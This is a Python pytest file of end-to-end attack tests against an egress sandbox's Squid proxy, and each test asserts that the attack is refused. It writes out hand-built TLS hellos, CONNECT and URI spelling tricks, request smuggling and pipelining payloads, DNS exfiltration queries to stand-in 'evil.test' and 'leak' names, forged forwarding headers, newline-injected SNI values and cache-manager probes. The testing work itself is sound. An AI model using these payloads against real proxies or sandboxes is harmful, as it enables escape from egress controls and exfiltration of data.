"""Attacks on controlled egress from hostile code in an egress sandbox (alice) and its neighbour (bob):
raw HTTP and TLS bytes to the proxy, each test asserting the safe outcome. Same world and fixture
pattern as test_egress.py; the test that tries to take the proxy down runs last."""

from __future__ import annotations

import hashlib
import json
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from tests.e2e import test_egress
from tests.e2e.egress_gateways import bash, egress_gateway, with_ca
from tests.e2e.test_egress import OWN_ADDRESS, connections
from tests.support import read_events
from tests.support.egress_world import PUBLIC_IP, World
from tests.support.gateway_process import Gateway
from tests.support.waiting import eventually, eventually_async

pytestmark = pytest.mark.anyio

ALLOW = ["good.test:443", "*.good.test:443", "good.test:80", "localhost.test:443", "private.test:443"]
FORBIDDEN = "HTTP/1.1 403 Forbidden"
world = test_egress.world  # the same module-scoped outside world
#: Runs in the sandbox before each attack: raw requests to the proxy, hand-made TLS hellos.
CLIENT = r"""
import hashlib, json, os, socket, ssl, struct, sys, time
PROXY = ("10.213.0.1", 3128)
def hello(sni):
    ext = b"\x00\x0a\x00\x04\x00\x02\x00\x17\x00\x0d\x00\x04\x00\x02\x04\x03\x00\x2b\x00\x03\x02\x03\x03"
    if sni is not None:
        name = sni.encode("latin-1")
        entry = b"\x00" + struct.pack("!H", len(name)) + name
        ext = b"\x00\x00" + struct.pack("!HH", len(entry) + 2, len(entry)) + entry + ext
    body = b"\x03\x03" + os.urandom(32) + bytes.fromhex("0000041301c02b0100")
    body += struct.pack("!H", len(ext)) + ext
    shake = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(shake)) + shake
def drain(sock, limit=65536):
    got = b""
    try:
        while len(got) < limit and (chunk := sock.recv(4096)): got += chunk
    except OSError: pass
    return got.decode("latin-1")
def raw(data):
    with socket.create_connection(PROXY, timeout=3) as sock:
        sock.sendall(data.encode("latin-1"))
        return drain(sock)
def connect(target, extra=""):
    sock = socket.create_connection(PROXY, timeout=3)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{extra}\r\n".encode("latin-1"))
    head = b""
    while b"\r\n\r\n" not in head and (byte := sock.recv(1)): head += byte
    return sock, head.decode("latin-1").split("\r\n")[0]
def tunnel(target, payload, extra=""):
    sock, status = connect(target, extra)
    if status.endswith(" 200 Connection established"):
        sock.sendall(payload)
        status += " | " + drain(sock, 4096)[:200]
    sock.close()
    return status
def peer(extra):
    try:
        sock = connect("good.test:443", extra)[0]
        tls = ssl._create_unverified_context().wrap_socket(sock, server_hostname="good.test")
        tls.sendall(b"GET /xff HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n")
        return [hashlib.sha256(tls.getpeercert(True)).hexdigest(), drain(tls)[-300:]]
    except OSError as exc:
        return ["closed", repr(exc)]
def get(url, host=None):
    head = f"Host: {host}\r\n" if host else ""
    return raw(f"GET {url} HTTP/1.1\r\n{head}Connection: close\r\n\r\n")
"""


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, world: World, backend: Any) -> Iterator[Gateway]:
    egress = {"allow": ALLOW, "max_connections": 3}
    principals = {"alice": "web", "bob": "web"}
    with egress_gateway(tmp_path_factory.mktemp("egress-attacks"), world, egress, principals, backend) as gw:
        yield gw


async def attack(gateway: Gateway, who: str, code: str) -> Any:
    """Run `code` after CLIENT in `who`'s sandbox; it sets `out`, which comes back through JSON."""
    script = f"{CLIENT}\n{code}\nprint(json.dumps(out))\n"
    result = await bash(gateway, who, f"python3 - <<'EOF'\n{script}\nEOF")
    assert result["exit_code"] == 0, result
    return json.loads(result["stdout"].splitlines()[-1])


def not_forbidden(answers: dict[str, str]) -> dict[str, str]:
    return {ask: answer[:300] for ask, answer in answers.items() if not answer.startswith(FORBIDDEN)}


def foreign_hits(world: World) -> list[dict[str, Any]]:
    return [h for h in world.hits() if h.get("addr") != PUBLIC_IP or h.get("host") not in (None, "good.test")]


async def test_connect_off_the_list_is_refused_in_every_spelling(gateway: Gateway, world: World) -> None:
    bob = (await bash(gateway, "bob", OWN_ADDRESS))["stdout"].strip()
    state = Path("/run/sandbox-gateway/egress") / gateway.gateway_id
    tls_port = next(ln for ln in (state / "tls.conf").read_text().splitlines() if ln.startswith("http_port"))
    targets = ["[::ffff:10.1.2.3]:443", "0x7f.1:443", "2130706433:443", "good.test%2eevil.test:443",
               "a.good.test.evil.test:443", "localhost.test:3128", "private.test:443", "localhost.test:443",
               tls_port.split()[1], "10.213.0.1:3128", f"{bob}:8000", "good.test:65979"]  # fmt: skip
    world.clear_hits()
    answers = await attack(
        gateway, "alice",
        f"out = {{t: connect(t)[1] for t in {targets!r}}}\n"
        "out['evil, Host good'] = raw('CONNECT evil.test:443 HTTP/1.1\\r\\nHost: good.test:443\\r\\n\\r\\n')",
    )  # fmt: skip
    assert not {k: v for k, v in not_forbidden(answers).items() if not v.startswith("HTTP/1.1 400")}
    assert world.hits() == []


async def test_spellings_squid_normalises_land_on_good_test_443_only(gateway: Gateway, world: World) -> None:
    targets = ["GOOD.TEST.:443", "good.test..:443", "good.test:0443", "good.test:+443", "good.test:443x"]
    world.clear_hits()
    answers = await attack(
        gateway, "alice", f"out = {{t: tunnel(t, hello('good.test')) for t in {targets!r}}}"
    )
    assert all(a.startswith((FORBIDDEN, "HTTP/1.1 200")) for a in answers.values()), answers
    assert world.hits() and all(
        (h["addr"], h["port"], h["sni"]) == (PUBLIC_IP, 443, "good.test") for h in world.hits()
    ), world.hits()


#: The proxy's own manager and internal pages.
SQUID_OWN = ["GET /squid-internal-mgr/info HTTP/1.1\r\nHost: 10.213.0.1:3128\r\n\r\n",
             "GET cache_object://localhost/info HTTP/1.1\r\n\r\n",
             "GET http://10.213.0.1:3128/squid-internal-mgr/menu HTTP/1.1\r\n\r\n",
             "GET http://egress-proxy/squid-internal-mgr/menu HTTP/1.1\r\n\r\n",
             "GET http://egress-proxy:3128/squid-internal-mgr/config HTTP/1.1\r\n\r\n",
             "GET /squid-internal-static/icons/SN.png HTTP/1.1\r\nHost: 10.213.0.1\r\n\r\n"]  # fmt: skip


async def test_uri_tricks_and_pipelining_reach_only_good_test(gateway: Gateway, world: World) -> None:
    refused = ["http://good.test@evil.test/", "http://good.test:80@evil.test:80/", "http://good.test.evil.test/",
               "http://[::ffff:198.51.100.11]/", "http://198.51.100.11/", "http://localhost.test:443/",
               "https://private.test/", "ftp://good.test/", "http://EVIL.test./"]  # fmt: skip
    pipelined = [
        "GET http://good.test/1 HTTP/1.1\r\nHost: good.test\r\n\r\n"
        "GET http://evil.test/2 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "GET http://good.test/3 HTTP/1.1\r\nHost: good.test\r\n\r\n"
        "GET /4 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "GET http://good.test/5 HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n"
        "Content-Length: 5\r\n\r\n0\r\n\r\nGET http://evil.test/6 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "GET http://good.test/7 HTTP/1.0\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        "GET http://good.test/8 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
        "GET http://evil.test\\@good.test/9 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
    ]  # fmt: skip
    world.clear_hits()
    answers = await attack(
        gateway, "alice",
        f"out = {{u: get(u, 'good.test') for u in {refused!r}}}\n"
        f"out['pipelined'] = [raw(p) for p in {pipelined!r}]\nout |= {{a: raw(a) for a in {SQUID_OWN!r}}}",
    )  # fmt: skip
    piped = answers.pop("pipelined")
    assert not not_forbidden(answers)
    assert all("egress refused: evil.test:80" in answer for answer in piped[:1] + piped[2:3]), piped
    assert foreign_hits(world) == [], "only good.test itself, with its own Host, was reached"
    assert not [a for a in answers.values() if "Cache Manager" in a or "PNG" in a or "http_port" in a]
    assert {hit["path"] for hit in world.hits()} <= {"/1", "/3", "/5", "/7", "/8", "/9"}


async def test_a_refused_name_is_never_looked_up_nor_dns_reached(gateway: Gateway, world: World) -> None:
    world.clear_dns_queries()
    answers = await attack(
        gateway, "alice",
        "query = lambda n: os.urandom(2) + bytes.fromhex('01000001000000000000') + b''.join("
        "bytes([len(p)]) + p.encode() for p in n.split('.')) + bytes.fromhex('0000010001')\n"
        "out = {t: connect(t)[1] for t in ("
        "'secret-data.evil.test:443', 'good%2etest:443', 'x.good%2etest:443')}\n"
        "out |= {u: get(u) for u in ['http://secret-data.evil.test/', 'http://good%2etest/']}\n"
        "for server in ('127.0.0.11', '198.51.100.53', '10.213.0.1'):\n"
        "    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(2)\n"
        "    udp.sendto(query('leak-' + server.replace('.', '-') + '.dns-good.test'), (server, 53))\n"
        "    try: print('ANSWERED', server, udp.recv(512))\n"
        "    except OSError: pass\n"
        "try: print('RESOLVED', socket.getaddrinfo('leak-resolver.dns-good.test', 443))\n"
        "except OSError: pass",
    )  # fmt: skip
    names = [q["name"] for q in world.dns_queries() if not q["name"].endswith(".in-addr.arpa")]
    leaked = [n for n in names if "evil" in n or "%" in n or "leak" in n]
    assert (not_forbidden(answers), leaked) == ({}, []), "refused, and never looked up"


SNI_TRICKS = [None, "evil.test", "good.test.evil.test", "GOOD.TEST.evil.test", "good.test evil.test"]


async def test_a_hello_naming_another_host_never_leaves(gateway: Gateway, world: World) -> None:
    world.clear_hits()
    answers = await attack(
        gateway, "alice", f"out = [tunnel('good.test:443', hello(s)) for s in {SNI_TRICKS!r}]"
    )
    assert all(a.startswith("HTTP/1.1 200") for a in answers), answers
    assert world.hits() == [], "no hello but one naming good.test may leave the proxy"
    answers = await attack(
        gateway, "alice", "out = [tunnel('GOOD.test:443', hello(s)) for s in ['good.TEST', 'good.test.']]"
    )
    assert {(h["addr"], h["port"], (h["sni"] or "").lower().rstrip(".")) for h in world.hits()} == {
        (PUBLIC_IP, 443, "good.test")
    }, (answers, world.hits())


async def test_only_tls_passes_through_an_allowed_tunnel(gateway: Gateway, world: World) -> None:
    world.clear_hits()
    await attack(
        gateway, "alice",
        "out = [tunnel('good.test:443', b'GET /plain HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'),\n"
        "       tunnel('good.test:443', b'SSH-2.0-x\\r\\n' + hello('good.test')),\n"
        "       tunnel('good.test:80', b'GET /p80 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'),\n"
        "       tunnel('good.test:443', hello('good.test') + hello('evil.test')),\n"
        "       raw('CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\nCONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n'"
        "           + hello('evil.test').decode('latin-1'))]",
    )  # fmt: skip
    assert [h for h in world.hits() if h["kind"] == "request" or h.get("addr") != PUBLIC_IP] == []
    assert [h for h in world.hits() if h.get("sni") not in (None, "good.test")] == []


async def test_forged_forwarding_headers_never_make_it_intercept(gateway: Gateway, world: World) -> None:
    """The tls stage trusts X-Forwarded-For when the stage token comes with it; a sandbox adding its own
    must not change who the proxy thinks it is, nor make the tls stage intercept TLS with an error."""
    bob = (await bash(gateway, "bob", OWN_ADDRESS))["stdout"].strip()
    extras = ["X-Forwarded-For: 8.8.8.8\r\n", f"X-Forwarded-For: {bob}\r\n", "X-Egress-Stage-Token: x\r\n"]
    seen = await attack(gateway, "alice", f"out = [peer(extra) for extra in {extras!r}]")
    world_cert = ssl.PEM_cert_to_DER_cert((world.workdir / "server.pem").read_text())
    assert all(cert in ("closed", hashlib.sha256(world_cert).hexdigest()) for cert, _ in seen), seen
    assert not [body for _, body in seen if "ERR_" in body or "squid" in body.lower()], seen


async def test_a_sandbox_holding_its_max_does_not_stop_bob(gateway: Gateway, world: World) -> None:
    world.clear_hits()
    held: dict[str, Any] = {}

    async def hold() -> None:
        held["alice"] = await attack(
            gateway, "alice",
            "socks = [connect('good.test:443') for _ in range(3)]\n"
            "for sock, _ in socks: sock.sendall(hello('good.test'))\n"
            "time.sleep(8); out = [status for _, status in socks] + [connect('good.test:443')[1]]",
        )  # fmt: skip

    async with anyio.create_task_group() as group:
        group.start_soon(hold)
        await eventually_async(lambda: len(world.hits_for(sni="good.test")) >= 3, timeout_s=20)
        out = await with_ca(gateway, "bob", world, "curl -sS --cacert ca.pem https://good.test/neighbour")
    assert out["exit_code"] == 0 and "path=/neighbour" in out["stdout"], out
    assert held["alice"][:3] == ["HTTP/1.1 200 Connection established"] * 3, held
    assert held["alice"][3] == FORBIDDEN, held


async def test_odd_bytes_leave_a_readable_and_truthful_audit_trail(gateway: Gateway) -> None:
    asks = ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: good.test\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", 'G"ET http://good.test/ HTTP/1.1\r\n\r\n',
            "GET http://good.test/%22%0a%7B HTTP/1.1\r\nHost: good.test\r\nUser-Agent: \"}\x01\r\n\r\n",
            "CONNECT good.test\x01:443 HTTP/1.1\r\n\r\n",
            "CONNECT \"good.test\":443 HTTP/1.1\r\n\r\n"]  # fmt: skip
    await attack(
        gateway, "alice", f"out = [raw(a) for a in {asks!r}] + [tunnel('good.test:443', hello('x\"}}{{'))]"
    )
    eventually(
        lambda: connections(gateway, method="PRI") and connections(gateway, method="OPTIONS"), timeout_s=15
    )
    events = read_events(gateway.audit_log)  # every line parses
    wrong = [e["egress"] | {"who": (e.get("actor") or {}).get("principal"), "result": e["decision"]["result"]}
             for e in events if e["event"] == "egress.connection"]  # fmt: skip
    wrong = [e for e in wrong if not e["who"] or (e["result"] == "allow" and not e.get("server_address"))]
    assert wrong == [], "each connection names its principal, and an `allow` names the server it reached"


async def test_a_hostile_sni_cannot_take_the_proxy_down_for_everyone(gateway: Gateway, world: World) -> None:
    before = await with_ca(gateway, "bob", world, "curl -sS --cacert ca.pem https://good.test/before")
    assert before["exit_code"] == 0, before
    hostile = ["good.test\nx", 'good.test x=1\n{"a', "good.test\n0 10.213.0.9 good.test 443 good.test"]
    await attack(gateway, "alice", f"out = [tunnel('good.test:443', hello(s)) for s in {hostile!r}]")
    out = await with_ca(gateway, "bob", world, "curl -sS --cacert ca.pem https://good.test/after")
    assert out["exit_code"] == 0 and "path=/after" in out["stdout"], out
